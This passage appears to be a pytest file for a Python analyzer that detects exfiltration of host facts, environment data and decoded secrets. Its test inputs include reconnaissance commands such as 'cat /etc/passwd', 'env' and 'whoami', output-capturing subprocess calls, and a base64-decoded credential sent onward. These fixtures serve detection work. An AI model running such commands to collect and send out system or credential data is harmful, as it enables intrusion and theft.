    token = base64.b64decode("dXNlcjpwYXNz").decode()
    send({written})
    """
    origin = _sent_origin(source)
    assert (Origin.DECODE in origin) is decoded


@pytest.mark.parametrize(
    ("command", "facts"),
    [
        ("whoami", Origin.HOST),
        ("/usr/bin/hostname", Origin.HOST),
        ("hostname && whoami", Origin.HOST),
        ("uname -a", Origin.HOST),
        ("cat /etc/passwd", Origin.HOST),
        ("ls -la ../", Origin.HOST),
        ("ipconfig /all", Origin.HOST),
        ("env", Origin.ENV),
        ("printenv; id", Origin.ENV | Origin.HOST),
        ("uname -m", Origin.NONE),  # the machine's architecture names no host
        ("git rev-parse HEAD", Origin.NONE),
        ("make install", Origin.NONE),
        ("environment-setup --check", Origin.NONE),
    ],
)
def test_command_facts_reads_what_a_command_line_prints(command: str, facts: Origin) -> None:
    assert pysource.command_facts(command) == facts


@pytest.mark.parametrize(
    ("call", "host"),
    [
        ("os.popen('whoami').read()", True),
        ("subprocess.check_output(['hostname'])", True),
        ("subprocess.getoutput('id')", True),
        ("os.system('whoami')", False),  # an exit status, not the output
        ("subprocess.check_output(['git', 'describe'])", False),
    ],
)
def test_a_recon_commands_output_is_a_host_fact(call: str, host: bool) -> None:
    analysis = _analyze(f"import os, subprocess\nvalue = {call}\n")
    assignment = analysis.tree.body[1]
    assert isinstance(assignment, ast.Assign)
    assert (Origin.HOST in analysis.origin(assignment.value, "")) is host


def test_bound_arguments_pair_each_argument_with_its_parameter() -> None:
    analysis = _analyze(
        """\
        def send(url, data=None, *rest, timeout=5, **more):
            pass

        def post(url):
            pass

        send(A, B, C, timeout=T, extra=E)
        send(*pair, D)
        post(A, B, extra=E)
        """
    )
    first, second, third = [s.node for s in analysis.calls]

    def bound(call: ast.Call, function: str) -> list[tuple[str | None, str]]:
        return [(p, ast.unparse(a)) for p, a in analysis.bound_arguments(call, function)]

    assert bound(first, "send") == [
        ("url", "A"),
        ("data", "B"),
        ("rest", "C"),
        ("timeout", "T"),
        ("more", "E"),
    ]
    assert bound(second, "send") == [(None, "*pair"), (None, "D")]
    assert bound(third, "post") == [("url", "A"), (None, "B"), (None, "E")]


def test_params_reaching_follow_the_functions_own_assignments() -> None:
    analysis = _analyze(
        """\
        import urllib.request

        def request(url, data, folder):
            req = urllib.request.Request(url=url, data=data)
            return urllib.request.urlopen(req)
        """
    )
    sender = next(s for s in analysis.calls if s.qualname == "urllib.request.urlopen")
    assert analysis.params_reaching("request", sender.node.args) == {"url", "data"}


@pytest.mark.parametrize(
    "wrap", ["context.wrap_socket(raw, server_hostname=HOST)", "ssl.wrap_socket(raw)"]
)
def test_a_socket_wrapped_in_tls_is_still_that_socket(wrap: str) -> None:
    analysis = _analyze(
        f"""\
        import socket, ssl
        HOST = "example.invalid"
        context = ssl.create_default_context()
        raw = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        tls = {wrap}
        tls.send(b"hello")
        """
    )
    send = next(s for s in analysis.calls if ast.unparse(s.node.func) == "tls.send")
    assert send.receiver == "socket.socket"
    assert Capability.NETWORK in send.capabilities


@pytest.mark.parametrize(
    "expression",
    [
        "'print(1)'[::-1].replace(')', ']', 1)[::-1]",
        "'print(1)'[::-1][::-1]",
        "'print(1)'.strip()[::-1].rstrip().lower()[::-1]",
    ],
)
def test_a_text_reversed_back_is_not_hidden(expression: str) -> None:
    # Replacing a last occurrence reverses, edits and reverses back: the text reads as
    # written, so the value is the literal it was made from, not hidden text.
    analysis = _analyze(f"exec({expression})")
    (site,) = [s for s in analysis.calls if s.qualname == "exec"]
    origin = analysis.exec_origin(site)
    assert origin is not None
    assert Origin.LITERAL in origin
    assert not origin & (Origin.OBFUSCATED | Origin.DYNAMIC)
